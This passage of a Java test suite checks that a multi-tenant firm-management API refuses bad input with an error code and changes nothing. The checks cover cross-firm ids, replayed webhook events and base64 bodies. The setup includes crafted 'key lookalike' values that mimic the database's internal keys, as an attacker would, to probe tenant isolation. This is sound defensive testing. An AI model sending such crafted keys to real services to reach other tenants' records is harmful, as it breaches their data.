        otherAccountJob = text(firm.ok("POST", "/jobs", Map.of("accountId", otherAccount, "pipelineId", firm.pipelineId,
                "title", "Second account job")), "jobId");
        otherAccountRequest = text(firm.ok("POST", "/client-requests", Map.of("accountId", otherAccount,
                "templateId", firm.templateId)), "requestId");
        List<String> patch = firm.pipeline("Patchable", List.of(Map.of("name", "First"), Map.of("name", "Last")));
        patchPipeline = patch.get(0);
        patchFirst = patch.get(1);
        patchLast = patch.get(2);
        archivedJob = firm.newJob("Archived");
        firm.ok("POST", "/jobs/" + archivedJob + "/archive", null);
        stack.settle();
        submittedBody = Json.write(submission("evt-recorded", firm.firmId, submittedRequest, "Bank statements", "statements.pdf"));
        assertThat(stack.webhook(submittedBody, sign(submittedBody)).status()).isEqualTo(200);
        stack.settle();
        cancel(cancelledRequest);
        stack.settle();

        refs.put("account", new String[] {zeta.accountId, "acc_unknown0000000000000000"});
        refs.put("pipeline", new String[] {zeta.pipelineId, "pl_unknown00000000000000000"});
        refs.put("template", new String[] {zeta.templateId, "tpl_unknown0000000000000000"});
        refs.put("stage", new String[] {zeta.firstStage, "stg_unknown0000000000000000"});
        refs.put("job", new String[] {zeta.jobId, "job_unknown0000000000000000"});
        refs.put("request", new String[] {zeta.requestId, "req_unknown0000000000000000"});
        refs.put("member", new String[] {ForeignFirm.EMPLOYEE, "user-unknown"});
        refs.put("firm", new String[] {zeta.firmId, "firm_unknown000000000000000"});
        // the table's own keys, as an attacker who read docs/data-model.md would write them
        keyLookalikes.addAll(List.of("FIRM#" + firm.firmId, "FIRM#" + firm.firmId + "#JOB#" + moveJob,
                "FIRM#" + zeta.firmId + "#JOB#" + zeta.jobId, "FIRM#" + zeta.firmId + "#REQUEST#" + zeta.requestId,
                "PIPELINE#" + firm.pipelineId, "ACCOUNT#" + firm.accountId, "MEMBER#" + Firm.OWNER, moveJob + "#", "#JOB"));

        Map<String, Spec> byName = new LinkedHashMap<>();
        for (Spec s : specs()) {
            byName.put(s.name(), s);
            generate(s);
        }
        rules(byName);
        lastScan = stack.scan();
    }

    @AfterAll
    void close() { stack.close(); }

    Stream<Arguments> cases() { return corpus.stream().map(Arguments::of); }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void isRefusedWithACode_andWritesNothing(Case c) {
        check(c);
    }

    @Test
    void theCorpusCoversEveryRouteOfTheTemplate_andDoesNotShrink() {
        Set<String> templateRoutes = Template.load(Stack.TEMPLATE).functions().stream()
                .flatMap(f -> f.routes().stream()).map(Template.HttpRoute::routeKey).collect(Collectors.toCollection(java.util.TreeSet::new));
        Map<String, Long> perRoute = new TreeMap<>(corpus.stream()
                .collect(Collectors.groupingBy(Case::route, Collectors.counting())));
        Map<String, Long> perCategory = new TreeMap<>(corpus.stream()
                .collect(Collectors.groupingBy(Case::category, Collectors.counting())));
        long total = perRoute.values().stream().mapToLong(Long::longValue).sum();
        StringBuilder report = new StringBuilder("Bad input corpus: " + total + " cases\n");
        templateRoutes.forEach(r -> report.append(String.format("  %-52s %4d%n", r, perRoute.getOrDefault(r, 0L))));
        report.append("By category:\n");
        perCategory.forEach((k, v) -> report.append(String.format("  %-52s %4d%n", k, v)));
        System.out.print(report);
        writeReport(report.toString());

        assertThat(perRoute.keySet()).as("routes of the corpus").isEqualTo(templateRoutes);
        perRoute.forEach((route, n) -> assertThat(n).as(route).isGreaterThanOrEqualTo(MINIMUM_CASES_PER_ROUTE));
        assertThat(total).as("cases in the corpus").isGreaterThanOrEqualTo(MINIMUM_CASES);
    }

    /** A transaction holds at most 100 items: the request plus 50 links plus 50 unlinks would be 101. */
    @Test
    void replacingFiftyLinkedJobsByFiftyOthers_isRefusedAsTooManyChanges_notA500() {
        lastScan = null;
        List<String> jobs = new ArrayList<>();
        for (int i = 0; i < 100; i++) jobs.add(firm.newJob("Many " + i));
        String request = text(firm.ok("POST", "/client-requests", Map.of("accountId", firm.accountId,
                "templateId", firm.templateId, "jobIds", jobs.subList(0, 50))), "requestId");
        stack.settle();
        Response r = http("PUT", "/client-requests/" + request + "/jobs", Firm.OWNER, firm.firmId, Map.of(),
                Json.write(obj("jobIds", jobs.subList(50, 100))));
        assertThat(r.status()).as(r.body()).isEqualTo(400);
        assertThat(text(r.json(), "error.code")).isEqualTo("TOO_MANY_CHANGES");
    }

    @Test
    void aRecordedEventIdNamingAnotherRequest_isRefusedWith409_andChangesNothing() {
        String pending = firm.request("Replay target");
        stack.settle();
        List<String> before = stack.scan();
        String body = Json.write(submission("evt-recorded", firm.firmId, pending, "Bank statements", "statements.pdf"));
        Response r = stack.webhook(body, sign(body));
        stack.settle();
        List<String> after = stack.scan();
        lastScan = null;
        assertThat(r.status()).as(r.body()).isEqualTo(409);
        assertThat(text(r.json(), "error.code")).isEqualTo("PORTAL_EVENT_ID_REUSED");
        assertThat(after).isEqualTo(before);
    }

    // ------------------------------------------------------------------------------------------------------
    // the check
    // ------------------------------------------------------------------------------------------------------

    private void check(Case c) {
        List<String> before = lastScan;
        if (before == null) {
            stack.settle();
            before = stack.scan();
        }
        lastScan = null;
        Response response = c.call().get();
        Response twin = c.twin() == null ? null : c.twin().get();
        stack.settle();
        List<String> after = stack.scan();
        lastScan = after;
        String body = c + " -> " + response.status() + " " + (response.body() == null ? "" : response.body());

        if (c.duplicate()) {
            assertThat(response.status()).as(body).isEqualTo(200);
            assertThat(text(response.json(), "status")).isEqualTo("duplicate");
        } else {
            assertThat(response.status()).as(body).isBetween(400, 499);
            if (response.status() == 401 && GATEWAY_UNAUTHORIZED.equals(response.body())) {
                assertThat(c.label()).as("only a missing token gets the gateway's own 401").isEqualTo("no token");
            } else {
                String code = code(response);
                assertThat(code).as(body).isNotBlank();
                if (c.codes() != null) assertThat(c.codes()).as(body).contains(code);
            }
        }
        if (twin != null) {
            assertThat(twin.status()).as(c + ": the same input with an unknown id: " + twin.body()).isEqualTo(response.status());
            assertThat(code(twin)).isEqualTo(code(response));
            assertThat(normalize(response.body(), c.otherId())).as(c + ": answer to another firm's id vs an unknown id")
                    .isEqualTo(normalize(twin.body(), c.unknownId()));
            String normalized = normalize(response.body(), c.otherId());
            assertThat(normalized).doesNotContain(ForeignFirm.MARK);
            for (String id : zeta.ids()) assertThat(normalized).doesNotContain(id);
        }
        assertThat(after).as(c + ": the table after a refused call").isEqualTo(before);
    }

    // ------------------------------------------------------------------------------------------------------
    // helpers
    // ------------------------------------------------------------------------------------------------------

    private Response http(String method, String path, String user, String firmId, Map<String, String> extra, String body) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("content-type", "application/json");
        if (user != null) headers.put("x-user-id", user);
        if (firmId != null) headers.put("x-firm-id", firmId);
        headers.putAll(extra);
        return stack.runtime.http(method, path, headers, body);
    }

    /** Invokes the route's function with a base64-encoded body, as API Gateway passes binary content on. */
    private Response base64(Spec s, String encoded) {
        String path = s.path();
        Routes.Match match = routes.match(s.method(), path.contains("?") ? path.substring(0, path.indexOf('?')) : path)
                .orElseThrow();
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("content-type", "application/octet-stream");
        Map<String, Object> claims = null;
        if (s.webhook()) {
            byte[] decoded;
            try {
                decoded = Base64.getDecoder().decode(encoded);
            } catch (IllegalArgumentException e) {
                decoded = new byte[0];
            }
            headers.put("x-portal-signature", sign(new String(decoded, StandardCharsets.UTF_8)));
        } else {
            claims = new LinkedHashMap<>(Map.of("sub", Firm.OWNER, "firmId", firm.firmId));
        }
        String event = HttpEvents.v2(match.route().routeKey(), path, "", headers, match.pathParameters(), encoded, claims,
                Instant.now());
        int flag = event.lastIndexOf("\"isBase64Encoded\":false");
        event = event.substring(0, flag) + "\"isBase64Encoded\":true" + event.substring(flag + "\"isBase64Encoded\":false".length());
        try {
            return HttpApi.response(stack.runtime.invoke(match.functionId(), event));
        } catch (Exception e) {
            throw new AssertionError("the function threw instead of answering", e);
        }
    }

    private void cancel(String requestId) {
        // the request is linked to one job; moving that job with CANCEL cancels it
        for (String jobId : List.of(text(firm.ok("GET", "/client-requests/" + requestId, null), "jobs[0].jobId"))) {
            firm.ok("POST", "/jobs/" + jobId + "/move", Map.of("toStageId", firm.review, "unfinishedRequests", "CANCEL"));
        }
        assertThat(firm.status(requestId)).isEqualTo("CANCELLED");
    }

    private static Map<String, Object> submission(String eventId, String firmId, String requestId, String label, String value) {
        return obj("eventId", eventId, "type", "client_request.submitted", "firmId", firmId, "requestId", requestId,
                "submittedAt", "2026-03-02T09:15:00Z", "answers", list(obj("label", label, "value", value)));
    }

    private static long now() { return Instant.now().getEpochSecond(); }

    private static String sign(String body) { return PortalSignature.header(Stack.SECRET, now(), body == null ? "" : body); }

    private static String code(Response r) {
        try {
            JsonNode error = r.json().field("error").orElse(null);
            return error == null ? null : error.field("code").map(JsonNode::asString).orElse(null);
        } catch (RuntimeException e) {
            return null;
        }
    }

    /** The answer with the id the caller sent replaced, so two answers to two different ids can be compared. */
    private static String normalize(String body, String sentId) {
        if (body == null) return "";
        return sentId == null ? body : body.replace(sentId, "<sent id>").replace(Json.write(sentId).replaceAll("^\"|\"$", ""), "<sent id>");
    }

    private static String encode(String value) { return URLEncoder.encode(value, StandardCharsets.UTF_8); }

    /** A readable, bounded label: controls escaped, long values cut. */
    static String printable(String label) {
        StringBuilder out = new StringBuilder();
        label.codePoints().forEach(cp -> {
            if (cp < 0x20 || cp == 0x7f || (cp >= 0x200b && cp <= 0x200f) || (cp >= 0x202a && cp <= 0x202e) || cp == 0xfeff
                    || (cp >= 0xd800 && cp <= 0xdfff)) {
                out.append(String.format("\\u%04x", cp));
            } else {
                out.appendCodePoint(cp);
            }
        });
        String s = out.toString();
        return s.length() <= 90 ? s : s.substring(0, 60) + "...(" + label.length() + " chars)";
    }

    static Map<String, Object> obj(Object... kv) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) m.put((String) kv[i], kv[i + 1]);
        return m;
    }

    static List<Object> list(Object... values) { return new ArrayList<>(Arrays.asList(values)); }

    @SafeVarargs
    static <T> List<T> concat(List<? extends T>... lists) {
        List<T> all = new ArrayList<>();
        for (List<? extends T> l : lists) all.addAll(l);
        return all;
    }

    private static Map<String, Object> reversed(Map<String, Object> m) {
        List<String> keys = new ArrayList<>(m.keySet());
        Collections.reverse(keys);
        Map<String, Object> out = new LinkedHashMap<>();
        keys.forEach(k -> out.put(k, m.get(k)));
        return out;
    }

    private static Object plain(JsonNode node) {
        if (node.isObject()) {
            Map<String, Object> m = new LinkedHashMap<>();
            node.asObject().forEach((k, v) -> m.put(k, plain(v)));
            return m;
        }
        if (node.isArray()) return new ArrayList<>(node.asArray().stream().map(BadInputCorpusTest::plain).toList());
        if (node.isString()) return node.asString();
        if (node.isBoolean()) return node.asBoolean();
        if (node.isNumber()) return Long.parseLong(node.asNumber());
        return null;
    }

    /** A deep copy of {@code base} with the value at {@code path} ("a[0].b") set, or removed for {@link #REMOVE}. */
    @SuppressWarnings("unchecked")
    static Map<String, Object> with(Map<String, Object> base, String path, Object value) {
        Map<String, Object> root = (Map<String, Object>) copy(base);
        List<Object> tokens = new ArrayList<>();
        for (String part : path.split("\\.")) {
            int b = part.indexOf('[');
            tokens.add(b < 0 ? part : part.substring(0, b));
            while (b >= 0) {
                int e = part.indexOf(']', b);
                tokens.add(Integer.parseInt(part.substring(b + 1, e)));
                b = part.indexOf('[', e);
            }
        }
        Object current = root;
        for (int i = 0; i < tokens.size() - 1; i++) {
            Object t = tokens.get(i);
            current = t instanceof Integer n ? ((List<Object>) current).get(n) : ((Map<String, Object>) current).get(t);
        }
        Object last = tokens.get(tokens.size() - 1);
        if (last instanceof Integer n) {
            if (value == REMOVE) ((List<Object>) current).remove((int) n);
            else ((List<Object>) current).set(n, value);
        } else if (value == REMOVE) {
            ((Map<String, Object>) current).remove(last);
        } else {
            ((Map<String, Object>) current).put((String) last, value);
        }
        return root;
    }

    @SuppressWarnings("unchecked")
    static Object at(Map<String, Object> base, String path) {
        Object current = base;
        for (String part : path.split("\\.")) {
            int b = part.indexOf('[');
            current = ((Map<String, Object>) current).get(b < 0 ? part : part.substring(0, b));
            if (b >= 0) current = ((List<Object>) current).get(Integer.parseInt(part.substring(b + 1, part.indexOf(']'))));
        }
        return current;
    }

    private static Object copy(Object v) {
        if (v instanceof Map<?, ?> m) {
            Map<String, Object> out = new LinkedHashMap<>();
            m.forEach((k, x) -> out.put((String) k, copy(x)));
            return out;
        }
        if (v instanceof List<?> l) {
            List<Object> out = new ArrayList<>();
            l.forEach(x -> out.add(copy(x)));
            return out;
        }
        return v;
    }

    private static void writeReport(String report) {
        try {
            java.nio.file.Files.createDirectories(java.nio.file.Path.of("target"));
            java.nio.file.Files.writeString(java.nio.file.Path.of("target", "bad-input-corpus.txt"), report);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
